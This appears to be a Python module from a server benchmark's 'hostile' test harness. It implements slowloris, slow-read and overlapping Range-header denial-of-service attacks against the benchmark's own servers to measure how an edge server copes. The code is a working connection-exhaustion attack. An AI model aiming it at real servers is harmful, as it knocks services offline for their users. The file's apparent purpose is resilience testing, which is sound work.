"""The Python attackers: idle connections, and the fallback of each slowhttptest attack
(slowloris, slow read, range abuse) when slowhttptest is absent or --tool python. One attack
per process, started by the run through `command()`:

    python -m bench.hostile.python_attacker ATTACK PORT PATH CONNS RATE SECONDS

It prints `ready` once its connections are open, then one JSON line of what it did.
"""

from __future__ import annotations

import json
import selectors
import socket
import sys
import time
from collections.abc import Sequence
from contextlib import suppress
from typing import Final

from bench.servers import HOST

# Overlapping ranges past max_ranges (16): the Python range attacker's header.
ABUSIVE_RANGES: Final = "bytes=0-," + ",".join(f"5-{i}" for i in range(0, 1101))


def command(attack: str, port: int, path: str, conns: int, rate: int, secs: float) -> list[str]:
    """The command line that runs one Python attacker (see `main`)."""
    return [
        sys.executable, "-m", "bench.hostile.python_attacker", attack, str(port), path,
        str(conns), str(rate), str(secs),
    ]  # fmt: skip


def attacker_main(attack: str, port: int, path: str, conns: int, rate: int, secs: float) -> None:
    """A Python attacker (idle connections, or the fallback of one slowhttptest attack) for
    *secs* seconds; prints `ready` once its connections are open, then a JSON summary."""
    sel = selectors.DefaultSelector()
    stats = {"opened": 0, "reopened": 0, "connect_errors": 0, "closed_by_edge": 0}
    end = time.monotonic() + secs
    target = path.encode()
    slowloris_head = b"GET %s HTTP/1.1\r\nHost: a\r\n" % target
    whole_file = b"GET %s HTTP/1.1\r\nHost: a\r\n\r\n" % target
    abusive = b"GET %s HTTP/1.1\r\nHost: a\r\nRange: %s\r\nConnection: close\r\n\r\n" % (
        target,
        ABUSIVE_RANGES.encode(),
    )

    def open_one() -> socket.socket | None:
        try:
            sock = socket.socket()
            if attack == "slow-read":
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.settimeout(10)
            sock.connect((HOST, port))
            if attack == "slowloris":
                sock.sendall(slowloris_head)
            elif attack == "slow-read":
                sock.sendall(whole_file)
            elif attack == "range-abuse":
                sock.sendall(abusive)
            sock.setblocking(False)
        except OSError:
            stats["connect_errors"] += 1
            return None
        stats["opened"] += 1
        if attack != "slow-read":
            sel.register(sock, selectors.EVENT_READ)
        return sock

    socks: set[socket.socket] = set()

    def replace(old: socket.socket, why: str) -> None:
        stats[why] += 1
        if old.fileno() >= 0 and attack != "slow-read":
            sel.unregister(old)
        old.close()
        socks.discard(old)
        if (fresh := open_one()) is not None:
            socks.add(fresh)

    pace = 1.0 / rate
    for _ in range(conns):  # at most *rate* new connections a second, as slowhttptest -r
        if (new := open_one()) is not None:
            socks.add(new)
        time.sleep(pace)
    print("ready", flush=True)
    next_tick = time.monotonic() + 1.0
    while (now := time.monotonic()) < end:
        # Slow readers are not watched (they would be readable all the time): each tick
        # reads 32 bytes from each. The others wait for the edge to answer or to cut them.
        for key, _ in sel.select(timeout=min(0.2, max(end - now, 0))):
            conn = key.fileobj
            assert isinstance(conn, socket.socket)
            try:
                got = conn.recv(1 << 16)
            except BlockingIOError:
                continue
            except OSError:
                got = b""
            # Cut by the edge (a timeout), or the range attacker's answer began: reconnect.
            replace(conn, "reopened" if got else "closed_by_edge")
        if time.monotonic() < next_tick:
            continue
        next_tick += 1.0
        for conn in list(socks):
            if attack == "slow-read":
                try:
                    if not conn.recv(32):
                        replace(conn, "closed_by_edge")
                except BlockingIOError:
                    pass
                except OSError:
                    replace(conn, "closed_by_edge")
            elif attack == "slowloris":
                with suppress(OSError):  # one more header line a second: never a full head
                    conn.send(b"X-a: b\r\n")
    stats["held_at_end"] = len(socks)
    for sock in socks:
        sock.close()
    print(json.dumps(stats), flush=True)


def main(argv: Sequence[str] | None = None) -> int:
    """`python -m bench.hostile.python_attacker ATTACK PORT PATH CONNS RATE SECONDS`."""
    args = list(sys.argv[1:] if argv is None else argv)
    attacker_main(args[0], int(args[1]), args[2], int(args[3]), int(args[4]), float(args[5]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
